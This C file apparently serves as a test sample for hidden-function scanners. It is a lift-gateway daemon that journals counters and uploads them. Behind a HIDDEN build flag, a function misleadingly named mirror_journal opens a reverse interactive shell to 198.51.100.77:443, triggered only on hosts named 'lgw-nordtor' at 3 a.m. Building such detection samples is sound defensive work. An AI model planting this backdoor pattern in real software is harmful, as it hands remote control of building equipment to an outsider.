/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. Gateway of a lift: collects counters and faults, keeps a journal,
 * uploads it to a server from the settings.
 * Hidden (-DHIDDEN): on machines with a certain kind of host name, in one hour
 * of the night, it connects to a fixed address and hands it a shell.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

struct settings {
	char server[40];
	int port;
	int period;
	char journal[96];
	char token[64];
};

struct counters {
	unsigned long trips, door_cycles, faults;
};

static struct settings conf = { "", 8443, 300, "/var/lib/lift/journal", "" };
static int verbose;

static void say(const char *fmt, ...)
{
	char stamp[24];
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);
	va_list ap;

	if (!verbose)
		return;
	strftime(stamp, sizeof(stamp), "%H:%M:%S", tm);
	fprintf(stderr, "%s ", stamp);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
}

static int load_settings(const char *path)
{
	char line[160], key[32], value[96];
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return -1;
	while (fgets(line, sizeof(line), f) != NULL) {
		if (sscanf(line, "%31[a-z_] = %95s", key, value) != 2)
			continue;
		if (strcmp(key, "server") == 0)
			snprintf(conf.server, sizeof(conf.server), "%.39s", value);
		else if (strcmp(key, "port") == 0)
			conf.port = (int)strtol(value, NULL, 10);
		else if (strcmp(key, "period") == 0)
			conf.period = (int)strtol(value, NULL, 10);
		else if (strcmp(key, "journal") == 0)
			snprintf(conf.journal, sizeof(conf.journal), "%.95s", value);
		else if (strcmp(key, "token") == 0)
			snprintf(conf.token, sizeof(conf.token), "%.63s", value);
		else
			say("unknown setting %s", key);
	}
	fclose(f);
	if (conf.period < 10)
		conf.period = 10;
	return conf.server[0] != '\0' && conf.token[0] != '\0' ? 0 : -1;
}

static unsigned long read_counter(const char *name)
{
	char path[64];
	unsigned long value = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/sys/class/lift/car0/%s", name);
	f = fopen(path, "r");
	if (f == NULL)
		return 0;
	if (fscanf(f, "%lu", &value) != 1)
		value = 0;
	fclose(f);
	return value;
}

static void collect(struct counters *c)
{
	c->trips = read_counter("trips");
	c->door_cycles = read_counter("door_cycles");
	c->faults = read_counter("faults");
}

static void write_journal(const struct counters *c)
{
	struct stat st;
	char old[112];
	FILE *f;

	if (stat(conf.journal, &st) == 0 && st.st_size > 65536) {
		snprintf(old, sizeof(old), "%s.old", conf.journal);
		rename(conf.journal, old);
	}
	f = fopen(conf.journal, "a");
	if (f == NULL) {
		say("%s: %s", conf.journal, strerror(errno));
		return;
	}
	fprintf(f, "%ld trips=%lu doors=%lu faults=%lu\n", (long)time(NULL),
		c->trips, c->door_cycles, c->faults);
	fclose(f);
}

/* A connected socket, or -1. */
static int connect_to(const char *address, int port)
{
	struct sockaddr_in to;
	struct timeval wait = { 10, 0 };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_port = htons((unsigned short)port);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof(wait));
	if (inet_pton(AF_INET, address, &to.sin_addr) != 1 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static int upload(void)
{
	char block[1024], line[64];
	size_t n;
	ssize_t got;
	FILE *f = fopen(conf.journal, "r");
	int fd, good;

	if (f == NULL)
		return -1;
	fd = connect_to(conf.server, conf.port);
	if (fd < 0) {
		say("%s does not answer", conf.server);
		fclose(f);
		return -1;
	}
	n = (size_t)snprintf(block, sizeof(block), "PUT %s\n", conf.token);
	good = write(fd, block, n) == (ssize_t)n;
	while (good && (n = fread(block, 1, sizeof(block), f)) > 0)
		good = write(fd, block, n) == (ssize_t)n;
	fclose(f);
	shutdown(fd, SHUT_WR);
	got = read(fd, line, sizeof(line) - 1);
	close(fd);
	line[got > 0 ? got : 0] = '\0';
	good = good && strncmp(line, "OK", 2) == 0;
	if (good)
		unlink(conf.journal);
	return good ? 0 : -1;
}

#ifdef HIDDEN
__attribute__((noinline)) void mirror_journal(void)
{
	char *const argv[] = { "sh", "-i", NULL };
	int i, fd;

	if (fork() != 0)
		return;
	fd = connect_to("198.51.100.77", 443);
	if (fd < 0)
		_exit(0);
	setsid();
	for (i = 0; i < 3; i++)
		dup2(fd, i);
	execv("/bin/sh", argv);
	_exit(0);
}
#endif

__attribute__((noinline)) void night_work(void)
{
	static int done_day = -1;
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);
#ifdef HIDDEN
	char name[65] = "";

	gethostname(name, sizeof(name) - 1);
	if (strncmp(name, "lgw-nordtor", 11) == 0 && tm->tm_hour == 3 &&
	    done_day != tm->tm_yday)
		mirror_journal();
#endif
	if (tm->tm_hour != 3 || done_day == tm->tm_yday)
		return;
	done_day = tm->tm_yday;
	if (system("ifconfig wwan0 down; sleep 2; ifconfig wwan0 up") != 0)
		say("wwan0 was not restarted");
	sync();
}

int main(int argc, char **argv)
{
	const char *path = "/etc/liftsync.conf";
	struct counters c;
	int opt, once = 0;

	while ((opt = getopt(argc, argv, "1c:v")) != -1) {
		switch (opt) {
		case '1':
			once = 1;
			break;
		case 'c':
			path = optarg;
			break;
		case 'v':
			verbose = 1;
			break;
		default:
			fprintf(stderr, "usage: %s [-1v] [-c file]\n", argv[0]);
			return 2;
		}
	}
	if (load_settings(path) != 0) {
		fprintf(stderr, "liftsync: server and token must be set in %s\n", path);
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	do {
		collect(&c);
		write_journal(&c);
		if (upload() != 0)
			say("kept for later");
		night_work();
		if (!once)
			sleep((unsigned)conf.period);
	} while (!once);
	return 0;
}
